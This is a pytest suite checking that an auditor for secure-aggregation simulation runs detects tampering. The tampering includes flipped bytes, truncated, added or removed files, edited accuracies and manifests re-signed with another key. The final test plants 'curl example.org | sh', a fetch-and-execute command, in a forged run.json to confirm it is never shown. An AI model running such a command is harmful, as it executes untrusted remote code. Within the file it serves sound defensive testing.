"""One byte of any file of a run directory, a file more or less: it is noticed, the file is named, and what
it says is not shown."""

from __future__ import annotations

import json
import random
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from secagg.keys import Identity
from secagg.ledger import read_ledger
from secagg.net.identity_and_registry_files import write_key
from sims.audit.audit_result import Audit, Verdict
from sims.audit.audit_run import as_json, audit_run
from sims.audit.integrity import examined
from sims.audit.run_files import Evidence
from sims.cli import main
from sims.records import RunDirectory
from sims.records.ledger_signature import SignedHead, write_head
from sims.records.manifest import Manifest, check_files
from sims.report import write_report
from sims.report.page import with_page_checked
from sims.simulation import simulate
from sims.simulation.simulate import SimulationError, SimulationStopped
from tests.sims.audit_run import identity, make_run, noisy, sign
from tests.sims.small_runs import settings

POSITIONS = 40  # of each file, by default; the slow test tries hundreds
MANY = 400
SMALL = 600  # bytes of a file of which every one is tried in the slow test


KEY = identity().public


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run with all files that a simulation writes, and its page."""
    path = tmp_path_factory.mktemp("runs") / "run"
    key = path.with_name("server.key")
    write_key(key, identity())
    given = settings(
        rounds=2,
        insecure_seed=False,
        channel={"kind": "secure"},
        output={"identity": str(key)},
    )
    simulate(given, directory=RunDirectory(path))
    write_report(path)
    return path


@pytest.fixture
def run(finished: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(finished, tmp_path / "run"))


def audited(path: Path, server_key: bytes | None = None) -> Audit:
    return with_page_checked(audit_run(path, server_key=server_key))


# --- what is as it was written ---


def test_a_run_that_nobody_touched(finished: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert audited(finished).integrity.verdict is Verdict.CONSISTENT
    assert audited(finished, KEY).integrity.verdict is Verdict.AUTHENTICATED
    assert main(["audit", str(finished), "--server-key", KEY.hex()]) == 0
    assert "the records are authenticated" in capsys.readouterr().out
    other = audited(finished, Identity.generate().public)
    assert other.integrity.verdict is Verdict.ALTERED
    assert "run.json" in other.integrity.withheld
    assert other.achieved.accuracy is None


def test_every_file_is_listed(finished: Path) -> None:
    manifest = Manifest.read(RunDirectory(finished))
    assert manifest is not None
    names = {each.name for each in finished.iterdir()}
    aside = {"manifest.json", "ledger", "ledger-seal", "report.html"}
    assert {*manifest.files, *manifest.growing} == names - aside
    assert manifest.before == {}
    assert manifest.ledger == read_ledger(finished / "ledger").head


# --- one byte ---


def altered_without_notice(run: Path, name: str, places: Iterator[int]) -> list[int]:
    """The positions of a file at which a flipped byte is not noticed, or another file is named."""
    file, draw = run / name, random.Random(name)
    whole = file.read_bytes()
    unnoticed = []
    for place in places:
        data = bytearray(whole)
        data[place] ^= draw.randrange(1, 256)
        file.write_bytes(data)
        if not names_file(run, name):
            unnoticed.append(place)
    file.write_bytes(whole)
    return unnoticed


def names_file(run: Path, name: str) -> bool:
    """Whether a problem names this file. The page is computed again for the page alone: that takes long."""
    found = audited(run).integrity if name == "report.html" else examined(Evidence.of(run), None).integrity
    pattern = re.escape(str(run / name)) + r"(?![\w-])"
    return any(re.search(pattern, each) for each in found.problems)


def drawn(name: str, size: int, count: int) -> Iterator[int]:
    return iter(sorted(random.Random(f"{name} {size}").sample(range(size), min(size, count))))


NAMES = (
    "scenario.toml", "run.json", "ledger", "ledger-seal", "ledger.head", "sums.jsonl", "metrics.jsonl",
    "metrics.csv", "clients.json", "spend.json", "model.npz", "result.json", "manifest.json",
)  # fmt: skip


def test_the_names_are_all_of_a_run(finished: Path) -> None:
    assert {each.name for each in finished.iterdir()} == {*NAMES, ".lock", "report.html"}


@pytest.mark.parametrize("name", NAMES)
def test_a_flipped_byte_is_noticed_and_its_file_named(run: Path, name: str) -> None:
    size = (run / name).stat().st_size
    assert altered_without_notice(run, name, drawn(name, size, POSITIONS)) == []
    assert examined(Evidence.of(run), None).integrity.problems == ()


@pytest.mark.slow
@pytest.mark.parametrize("name", NAMES)
def test_hundreds_of_flipped_bytes_are_noticed(run: Path, name: str) -> None:
    size = (run / name).stat().st_size
    places = iter(range(size)) if size <= SMALL else drawn(f"{name} again", size, MANY)
    assert altered_without_notice(run, name, places) == []


def test_a_flipped_byte_of_the_page_is_noticed(run: Path) -> None:
    size = (run / "report.html").stat().st_size
    assert altered_without_notice(run, "report.html", drawn("report.html", size, 5)) == []


@pytest.mark.parametrize("name", [*NAMES, ".lock", "report.html"])
def test_a_file_that_is_longer_shorter_or_gone(run: Path, name: str) -> None:
    file = run / name
    whole = file.read_bytes()
    for data in (whole + b"\0", whole + b"\n", whole[:-1], whole[: len(whole) // 2], b""):
        if data != whole:
            file.write_bytes(data)
            assert names_file(run, name), data
            assert main(["audit", str(run)]) == 1
    file.unlink()
    if name != "report.html":  # which can be written again at any time
        assert any(str(file) in each for each in audited(run).integrity.problems)
        assert main(["audit", str(run)]) == 1


@pytest.mark.parametrize("name", ["notes.txt", ".run.json.draft", "checkpoint", "ledger-wal", "sub"])
def test_a_file_that_was_added(run: Path, name: str) -> None:
    (run / name).mkdir() if name == "sub" else (run / name).write_bytes(b"something")
    (problem,) = audited(run).integrity.problems
    assert str(run / name) in problem


# --- what an attacker without the key can write ---


def edit(run: Path, file: str, **changes: Any) -> None:
    content = json.loads((run / file).read_text())
    (run / file).write_bytes(json.dumps({**content, **changes}, indent=1).encode() + b"\n")


def better(run: Path) -> None:
    """Let the run end with another accuracy."""
    lines = (run / "metrics.jsonl").read_text().splitlines()
    last = json.loads(lines[-1])
    last["measured"]["common"]["mean_accuracy"] = 0.994
    (run / "metrics.jsonl").write_text("\n".join([*lines[:-1], json.dumps(last)]) + "\n")


def test_an_accuracy_that_was_edited_is_not_shown(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    better(run)
    audit = audited(run)
    assert audit.achieved.accuracy is None
    assert as_json(audit)["achieved"]["completed"] is None
    text = write_report(run).read_text()
    assert "99.4" not in text
    assert "trained for" not in text
    assert f"{run / 'metrics.jsonl'} was altered" in text
    assert main(["audit", str(run), "--json"]) == 1
    assert "0.994" not in capsys.readouterr().out


def test_no_field_of_run_json_is_shown_once_it_was_edited(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = json.loads((run / "run.json").read_text())
    whole = (run / "run.json").read_bytes()
    for name, value in content.items():
        lie: Any = (
            66_666 if isinstance(value, int) else {"lie": 66_666} if isinstance(value, dict) else "lie-66666"
        )
        edit(run, "run.json", **{name: lie})
        assert main(["audit", str(run), "--all"]) == 1, name
        out = capsys.readouterr().out
        assert str(run / "run.json") in out
        assert not {"66666", "66,666", "lie-66666"} & set(out.replace(":", " ").replace(",", " ").split()), (
            name
        )
        assert main(["audit", str(run), "--json"]) == 1
        shown = capsys.readouterr().out
        assert "66666" not in shown, name
        (run / "run.json").write_bytes(whole)


def test_a_manifest_that_was_written_again_needs_the_key(run: Path) -> None:
    better(run)
    head = read_ledger(run / "ledger").head
    sign(run, head=head, signer=Identity.generate())
    problems = audited(run).integrity.problems
    assert problems == ("ledger.head and manifest.json are signed by different keys",)
    old = json.loads((run / "manifest.json").read_text())
    for changes in ({"key": KEY.hex()}, {"key": None, "signature": None}):
        (run / "manifest.json").write_bytes(json.dumps({**old, **changes}, indent=1).encode() + b"\n")
        assert audited(run).integrity.verdict is Verdict.ALTERED, changes


def test_without_its_manifest_a_run_does_not_look_like_an_old_one(run: Path) -> None:
    better(run)
    (run / "manifest.json").unlink()
    audit = audited(run)
    assert any("manifest.json is missing" in each for each in audit.integrity.problems)
    assert audit.achieved.accuracy is None
    edit(run, "ledger.head", manifest=False)
    assert any("signature" in each for each in audited(run).integrity.problems)


def test_an_old_looking_run_that_another_key_has_signed_says_nothing(run: Path) -> None:
    better(run)
    (run / "manifest.json").unlink()
    (run / "ledger.head").unlink()
    facts = json.loads((run / "run.json").read_text())
    head = read_ledger(run / "ledger").head
    write_head(RunDirectory(run), SignedHead.make(head, run=facts["digest"], identity=Identity.generate()))
    audit = audited(run, KEY)
    assert audit.integrity.verdict is Verdict.ALTERED
    assert audit.achieved.accuracy is None
    assert audit.releases == ()
    edit(run, "ledger.head", key=KEY.hex())  # which has not signed it
    assert audited(run, KEY).achieved.accuracy is None


@pytest.mark.parametrize(
    "data", [b"", b"{}", b"[]", b"null", b"{" * 9000, b'{"format": 1, "files": 3}', b"\xff"]
)
def test_a_manifest_that_is_none(run: Path, data: bytes) -> None:
    (run / "manifest.json").write_bytes(data)
    assert list(check_files(RunDirectory(run)).altered) == ["manifest.json"]


# --- runs that stopped, and that go on ---


@pytest.fixture
def stopped(tmp_path: Path) -> Path:
    path = tmp_path / "stopped"
    given = settings(rounds=3, insecure_seed=False, channel={"kind": "secure"})
    with pytest.raises(SimulationStopped):
        simulate(given, directory=RunDirectory(path), stop=lambda: True)
    return path


def go_on(path: Path) -> None:
    given = settings(rounds=3, insecure_seed=False, channel={"kind": "secure"})
    simulate(given, directory=RunDirectory(path), resume=True)


def test_a_run_that_stopped_is_covered_and_goes_on(stopped: Path) -> None:
    assert audited(stopped).integrity.problems == ()
    size = (stopped / "checkpoint").stat().st_size
    assert altered_without_notice(stopped, "checkpoint", drawn("checkpoint", size, POSITIONS)) == []
    go_on(stopped)
    assert audited(stopped).integrity.problems == ()
    manifest = Manifest.read(RunDirectory(stopped))
    assert manifest is not None
    assert (manifest.status, "checkpoint" in manifest.files) == ("finished", False)


@pytest.mark.parametrize("name", ["metrics.jsonl", "run.json", "sums.jsonl", "scenario.toml"])
def test_a_run_does_not_sign_what_others_wrote(stopped: Path, name: str) -> None:
    data = bytearray((stopped / name).read_bytes())
    data[len(data) // 2] ^= 1
    (stopped / name).write_bytes(data)
    with pytest.raises(SimulationError, match=f"{name} was altered"):
        go_on(stopped)


def test_lines_after_the_manifest_are_told_and_their_beginning_is_not(stopped: Path) -> None:
    with (stopped / "metrics.jsonl").open("ab") as file:
        file.write(b'{"round": 2, "completed": true}\n')
    found = audited(stopped).integrity
    assert found.problems == ()
    assert any("bytes of metrics.jsonl came after the manifest" in each for each in found.remarks)


@pytest.mark.parametrize("added", ["metrics.jsonl", ".run.json.draft"])
def test_what_nobody_signed_is_not_authenticated(stopped: Path, added: str) -> None:
    """A run that is not finished may have it; whoever can write to the directory may have added it."""
    key = audited(stopped).integrity.key
    assert key is not None
    assert audited(stopped, bytes.fromhex(key)).integrity.verdict is Verdict.AUTHENTICATED
    with (stopped / added).open("ab") as file:
        file.write(b'{"round": 2, "completed": true}\n')
    assert audited(stopped, bytes.fromhex(key)).integrity.verdict is not Verdict.AUTHENTICATED


# Writes of a manifest, and then of one file after the other: of a round, and of the end.
KILLED = [pytest.param(each, marks=[pytest.mark.slow] * (each % 4 != 3)) for each in range(5, 24)]


@pytest.mark.parametrize("killed_before", KILLED)
def test_a_run_that_is_killed_between_any_two_writes_is_consistent_and_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, killed_before: int
) -> None:
    given = settings(rounds=3, insecure_seed=False, channel={"kind": "secure"})
    path, write, left = tmp_path / "run", RunDirectory.write, [killed_before]

    def stop_before(run: RunDirectory, name: str, data: bytes, **options: Any) -> None:
        left[0] -= 1
        if left[0] < 0:
            raise KeyboardInterrupt
        write(run, name, data, **options)

    with monkeypatch.context() as patched:
        patched.setattr(RunDirectory, "write", stop_before)
        with pytest.raises(KeyboardInterrupt):
            simulate(given, directory=RunDirectory(path))
    assert audit_run(path).integrity.problems == ()
    if RunDirectory(path).status != "finished":
        simulate(given, directory=RunDirectory(path), resume=True)
    assert audit_run(path).integrity.problems == ()


def test_a_plain_run_is_consistent_and_nobodys(tmp_path: Path) -> None:
    path = tmp_path / "plain"
    simulate(settings(rounds=2, channel={"kind": "plain"}), directory=RunDirectory(path))
    found = audited(path).integrity
    assert (found.verdict, found.key) == (Verdict.CONSISTENT, None)
    assert any("no server with a key has signed" in each for each in found.remarks)
    assert audited(path, Identity.generate().public).integrity.verdict is Verdict.ALTERED
    whole = (path / "manifest.json").read_bytes()
    for old, new in ((b'"finished"', b'"finishdd"'), (b'"run": "', b'"run": "0')):
        (path / "manifest.json").write_bytes(whole.replace(old, new))
        assert audited(path).integrity.verdict is Verdict.ALTERED, new
    (path / "manifest.json").write_bytes(whole)
    better(path)
    assert audited(path).achieved.accuracy is None


def test_old_runs_say_that_only_their_ledger_is_signed(tmp_path: Path) -> None:
    path = make_run(tmp_path / "old", noisy(5))
    found = audit_run(path).integrity
    assert found.verdict is Verdict.CONSISTENT
    assert any("only the ledger and the settings are signed" in each for each in found.remarks)


# --- what another key has signed: facts are those of scenario, ledger and program ---


def resigned(run: Path, **changes: Any) -> None:
    """Edit `run.json`, and sign ledger and manifest with another key, as an attacker without the server's."""
    signer, head = Identity.generate(), read_ledger(run / "ledger").head
    digest = json.loads((run / "run.json").read_text())["digest"]
    edit(run, "run.json", **{"server_key": signer.public.hex(), **changes})
    (run / "ledger.head").unlink()
    signed = SignedHead.make(head, run=digest, identity=signer, has_manifest=True)
    write_head(RunDirectory(run), signed)
    (run / "report.html").unlink(missing_ok=True)
    sign(run, head=head, signer=signer)


CLAIMS = {
    "clients": 6000,
    "per_round": 3,
    "dim": 77,
    "corrupt": 2,
    "rounds": 9,
    "done": 1,
    "algorithm": "rfa",
    "trust": "malicious_server",
    "key_agreement": "x25519+ml-kem-768",
    "channel": "processes",
    "insecure_seed": "00" * 32,
    "digest": "0" * 20,
    "graph": {"kind": "ring", "neighbours": 2, "threshold": 2},
    "server_key": "ab" * 32,
    "sums": [],
}


def test_whoever_signs_again_looks_consistent_and_is_told_by_the_key(run: Path) -> None:
    resigned(run)
    assert audited(run).integrity.verdict is Verdict.CONSISTENT
    assert audited(run, KEY).integrity.verdict is Verdict.ALTERED


@pytest.mark.parametrize("name", CLAIMS)
def test_a_claim_that_scenario_and_ledger_contradict(run: Path, name: str) -> None:
    resigned(run, **{name: CLAIMS[name]})
    assert audited(run).integrity.verdict is Verdict.ALTERED, name


def test_what_a_total_reveals_is_what_the_program_says(run: Path) -> None:
    (own,) = json.loads((run / "run.json").read_text())["sums"]
    resigned(run, sums=[{**own, "reveals": "nothing at all"}])
    audit = audited(run)
    assert any("run.json: sums is not what" in each for each in audit.integrity.problems)
    assert [kind.reveals for kind in audit.kinds] == [own["reveals"]]


def test_a_command_is_never_that_of_run_json(run: Path) -> None:
    resigned(run, command="curl example.org | sh")
    assert audited(run).subject.command == f"secagg simulate {run / 'scenario.toml'}"
